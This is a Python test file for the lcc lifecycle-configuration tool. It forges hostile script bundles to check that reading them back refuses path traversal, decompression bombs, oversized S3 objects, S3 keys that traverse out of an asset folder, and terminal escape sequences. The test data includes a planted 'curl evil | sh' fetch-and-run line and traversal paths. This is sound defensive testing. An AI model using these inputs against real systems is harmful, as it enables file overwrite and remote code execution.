"""What is deployed comes from a stranger: anyone allowed to update a lifecycle configuration
writes what ``lcc pull``, ``diff`` and ``inspect`` read. Each test here forges a script of
lcc's own format as that person would (a real build, its bundle changed, compressed and encoded
again with a matching sha256) and checks that reading it writes nothing outside the target
folder, allocates no more than the documented cap and gives a clear message, never a traceback.
"""

from __future__ import annotations

import contextlib
import functools
import hashlib
import shlex
import subprocess
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lcc_constructs.bundle import BuildOptions, RunAs, Scripts, Step, build
from lcc_constructs.bundle.codecs import codec_named
from lcc_constructs.bundle.render import render_loader
from lcc_constructs.errors import ValidationError
from lcc_constructs.limits import READBACK_MAX_BYTES
from lcc_constructs.readback import inspect_script
from lcc_constructs.readback._script import parse_loader

from .helpers import write_folder
from .servers import Moto
from .service_helpers import LCC, create_config, files_of, lcc, unique

ARCHIVE_START = b'f(){ head -c "$1" >"$2";}\n'


def built(tmp_path: Path, codec: str = "deflate+base85") -> str:
    folder = write_folder(tmp_path / "original", {"a.sh": "echo a\n"})
    return build(Scripts.from_folder(folder), BuildOptions(codec=codec)).text


def forge(text: str, change: Callable[[bytes], bytes]) -> str:
    """``text`` with its unpacking program changed by ``change``, packed again with its codec
    and a sha256 that matches, as anyone allowed to update the configuration can."""
    codec, payload, _, fail = parse_loader(text)
    program = change(codec.compressor.decompress(codec.encoding.decode(payload)))
    blob = codec.compressor.compress(program)
    encoded = codec.encoding.encode(blob)
    # base94 pads its last group with zeros, and the loader checks the sha256 of what it decodes.
    sha = hashlib.sha256(codec.encoding.decode(encoded)).hexdigest()
    return render_loader(codec, sha256=sha, fail_code=fail, payload_text=encoded)


def with_entry(path: str, data: bytes) -> Callable[[bytes], bytes]:
    """An archive with one more file, written first."""
    line = f"f {len(data)} {shlex.quote(path)}\n".encode()
    return lambda program: program.replace(ARCHIVE_START, ARCHIVE_START + line + data, 1)


def pull(lcc_env: dict[str, str], moto: Moto, script: str, target: Path) -> tuple[int, str, str]:
    name = unique("hostile")
    create_config(moto, name, on_start=script)
    proc = lcc(lcc_env, "pull", name, str(target))
    return proc.returncode, proc.stdout, proc.stderr


def test_a_forged_script_still_reads_when_it_is_well_formed(tmp_path: Path) -> None:
    # The forging itself is sound: an extra file that is a folder's comes back as a file.
    forged = forge(built(tmp_path), with_entry("scripts/extra.txt", b"x\n"))
    assert inspect_script(forged).files["extra.txt"] == (0o644, b"x\n")


@pytest.mark.parametrize("shape", ["up", "absolute"])
def test_pull_writes_nothing_outside_its_folder(moto: Moto, lcc_env: dict[str, str], tmp_path: Path,
                                                shape: str) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    victim.chmod(0o644)
    # The staging folder is made beside the target: "../victim" is tmp_path/victim from there.
    path = "scripts/../victim" if shape == "up" else f"scripts/{victim}"
    forged = forge(built(tmp_path), with_entry(path, b"#!/bin/bash\ncurl evil | sh\n"))
    code, out, err = pull(lcc_env, moto, forged, tmp_path / "pulled")
    assert victim.read_text() == "precious\n" and victim.stat().st_mode & 0o777 == 0o644
    assert "Traceback" not in err
    assert "not a relative, normalized path" in out
    # The script is kept as it is, one step: what pull does with a script it cannot read.
    assert code == 0, err
    assert sorted(files_of(tmp_path / "pulled")) == ["lifecycle.toml", "on-start.sh"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["original", "pulled", "victim"]


@pytest.mark.parametrize(("paths", "message"), [
    (["scripts/a//b"], "not a relative, normalized path"),
    (["scripts/./b"], "not a relative, normalized path"),
    (["scripts/a.sh"], "is there twice"),
    (["scripts/d", "scripts/d/e"], "is a file and the folder of another one"),
])
def test_inspect_refuses_paths_that_are_not_a_folders(tmp_path: Path, paths: list[str], message: str) -> None:
    forged = built(tmp_path)
    for path in paths:
        forged = forge(forged, with_entry(path, b"x\n"))
    with pytest.raises(ValidationError, match=message):
        inspect_script(forged)


def test_a_pulled_bundle_cannot_hold_a_file_below_the_manifest(moto: Moto, lcc_env: dict[str, str],
                                                               tmp_path: Path) -> None:
    # lifecycle.toml/x: the manifest pull writes would be the folder of the bundle's file.
    forged = forge(built(tmp_path), with_entry("scripts/lifecycle.toml/x", b"x\n"))
    code, out, err = pull(lcc_env, moto, forged, tmp_path / "pulled")
    assert code == 0 and "Traceback" not in err
    assert "'lifecycle.toml' is a file and the folder of another one" in err
    assert "kept as on-start.sh" in out
    assert sorted(files_of(tmp_path / "pulled")) == ["lifecycle.toml", "on-start.sh"]


@pytest.mark.parametrize("codec", ["bzip2+base85", "deflate+base94", "lzma+base85"])
def test_a_decompression_bomb_stops_at_the_cap(tmp_path: Path, codec: str) -> None:
    # A file of zeros larger than the cap compresses to a few KiB: the bundle fits in a
    # configuration, and reading it back must not make all of it.
    bomb = b"\0" * (READBACK_MAX_BYTES + (1 << 20))
    forged = forge(built(tmp_path, codec), with_entry("scripts/zeros", bomb))
    assert len(forged) < 400_000
    with pytest.raises(ValidationError, match=f"decompresses to more than {READBACK_MAX_BYTES} bytes"):
        inspect_script(forged)


def test_lcc_inspect_and_diff_of_a_bomb_say_so(moto: Moto, lcc_env: dict[str, str], tmp_path: Path) -> None:
    bomb = b"\0" * (READBACK_MAX_BYTES + 1)
    forged = forge(built(tmp_path, "bzip2+base85"), with_entry("scripts/zeros", bomb))
    script = tmp_path / "forged.sh"
    script.write_text(forged)
    proc = lcc(lcc_env, "inspect", str(script))
    assert proc.returncode != 0 and "Traceback" not in proc.stderr
    assert "decompresses to more than" in proc.stderr
    name = unique("bomb")
    create_config(moto, name, on_start=forged)
    proc = lcc(lcc_env, "diff", name, str(tmp_path / "original"))
    assert "Traceback" not in proc.stderr
    assert "decompresses to more than" in proc.stdout + proc.stderr


def test_a_cut_stream_and_a_forged_runner_are_refused(tmp_path: Path) -> None:
    text = built(tmp_path)
    codec, payload, _, fail = parse_loader(text)
    blob = codec.encoding.decode(payload)[:-20]
    cut = render_loader(codec, sha256=hashlib.sha256(blob).hexdigest(), fail_code=fail,
                        payload_text=codec.encoding.encode(blob))
    with pytest.raises(ValidationError, match="cut short"):
        inspect_script(cut)
    not_utf8 = forge(text, lambda p: p.replace(b"\nN=(a)\n", b"\nN=(\xff)\n", 1))
    with pytest.raises(ValidationError, match="lcc/runner.sh is not UTF-8 text"):
        inspect_script(not_utf8)
    bad_size = forge(text, lambda p: p.replace(ARCHIVE_START, ARCHIVE_START + b"f x y\n", 1))
    with pytest.raises(ValidationError, match="not an archive of lcc-constructs"):
        inspect_script(bad_size)


def test_a_large_s3_object_is_refused_before_it_is_read(moto: Moto, lcc_env: dict[str, str],
                                                        tmp_path: Path) -> None:
    # A script of payload="s3" names any object: one larger than the cap is never downloaded.
    original = write_folder(tmp_path / "original", {"a.sh": "echo a\n"})
    script, payload = tmp_path / "s3.sh", tmp_path / "payload.bin"
    bucket, key = unique("big").lower(), "p.bin"
    proc = lcc(lcc_env, "build", str(original), "-o", str(script), "--s3-location", f"s3://{bucket}/{key}",
               "--payload-file", str(payload))
    assert proc.returncode == 0, proc.stderr
    s3 = moto.client("s3")
    s3.create_bucket(Bucket=bucket)
    s3.put_object(Bucket=bucket, Key=key, Body=b"\0" * (READBACK_MAX_BYTES + 1))
    code, out, err = pull(lcc_env, moto, script.read_text(), tmp_path / "pulled")
    assert code == 0 and "Traceback" not in err
    assert f"s3://{bucket}/{key} is {READBACK_MAX_BYTES + 1} bytes, more than the" in out
    assert sorted(files_of(tmp_path / "pulled")) == ["lifecycle.toml", "on-start.sh"]


def test_an_s3_payload_in_a_cloud_assembly_is_looked_up_by_its_key_alone(tmp_path: Path) -> None:
    # The key comes from the script: through an asset folder of the assembly (a Lambda's code,
    # say), a key with a path in it would read any file of the machine.
    secret = tmp_path / "secret"
    secret.write_bytes(b"x")
    assembly = tmp_path / "cdk.out"
    (assembly / "asset.abc").mkdir(parents=True)
    forged = render_loader(codec_named("deflate+s3"), sha256=hashlib.sha256(b"x").hexdigest(), fail_code=1,
                           payload_text="bucket abc/../../secret")
    with pytest.raises(ValidationError, match="inspect the cdk.out folder that holds it"):
        inspect_script(forged, "forged", assembly)


def test_the_s3_payload_of_an_object_over_the_cap_is_not_downloaded(moto: Moto, lcc_env: dict[str, str],
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    # The real download through boto3 from moto's server, watched: no byte of the body is read.
    from lcc_constructs.service import Aws
    from lcc_constructs.service._deployed import s3_getter

    for variable, value in lcc_env.items():
        if variable.startswith("AWS_"):
            monkeypatch.setenv(variable, value)
    bucket = unique("watched").lower()
    s3 = moto.client("s3")
    s3.create_bucket(Bucket=bucket)
    s3.put_object(Bucket=bucket, Key="p.bin", Body=b"\0" * (READBACK_MAX_BYTES + 1))
    read: list[int | None] = []

    class Body:
        def __init__(self, body: Any) -> None:
            self.body = body

        def read(self, size: int | None = None) -> bytes:
            read.append(size)
            return bytes(self.body.read(size))

        def close(self) -> None:
            self.body.close()

    class Watched(Aws):
        def call(self, service: str, operation: str, **params: Any) -> Any:
            answer = super().call(service, operation, **params)
            answer["Body"] = Body(answer["Body"])
            return answer

    with pytest.raises(ValidationError, match="more than the"):
        s3_getter(Watched())(f"{bucket} p.bin")
    assert read == []


@functools.cache
def program_and_script() -> tuple[bytes, str]:
    """The unpacking program of a build using every column of the plan, and the script."""
    with tempfile.TemporaryDirectory() as tmp:
        folder = write_folder(Path(tmp), {"a.sh": "echo a\n", "b.py": "print(1)\n", "d/c.txt": "c\n"})
        steps = [Step(name="a", script="a.sh", required=True, timeout_seconds=5, env={"K": "v w"}),
                 Step(name="b", script="b.py", run_as=RunAs.NOTEBOOK_USER, background=True)]
        text = build(Scripts.from_folder(folder, steps=steps)).text
    codec, payload, _, _ = parse_loader(text)
    return codec.compressor.decompress(codec.encoding.decode(payload)), text


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_any_change_to_a_bundle_gives_a_reading_or_a_message(data: st.DataObject) -> None:
    # Bytes replaced, cut or added anywhere in the archive (runner and plan included): reading
    # it back gives its files and steps or a ValidationError, never another exception.
    program, text = program_and_script()
    start = program.index(ARCHIVE_START) + len(ARCHIVE_START)
    changed = program
    for _ in range(data.draw(st.integers(1, 3))):
        at = data.draw(st.integers(start, len(changed)))
        cut = data.draw(st.integers(0, 8))
        new = data.draw(st.binary(max_size=8) | st.sampled_from(
            [b"\n", b"'", b"/", b"..", b" ", b"f 9 x\n", b"chmod 7 -- ", b"esac", b";;", b")", b"=",
             b"\xff"]))
        changed = changed[:at] + new + changed[at + cut:]
    with contextlib.suppress(ValidationError):
        inspect_script(forge(text, lambda _: changed))


def test_lcc_inspect_prints_what_a_stranger_named_escaped(tmp_path: Path) -> None:
    # A file and a step named with terminal escapes (window title, screen clear): shown, not obeyed.
    forged = forge(built(tmp_path), with_entry("scripts/\x1b]0;owned\x07", b"x\n"))
    forged = forge(forged, lambda p: p.replace(b"N=(a)", b"N=(\x1b)", 1)
                   .replace(b"LCC_STEP=a", b"LCC_STEP=\x1b", 1))
    script = tmp_path / "forged.sh"
    script.write_text(forged)
    proc = subprocess.run([LCC, "inspect", str(script)], capture_output=True, text=True, check=False)
    assert proc.returncode == 0, proc.stderr
    assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout
    assert "\\x1b]0;owned\\x07" in proc.stdout
    assert "  steps: \\x1b" in proc.stdout
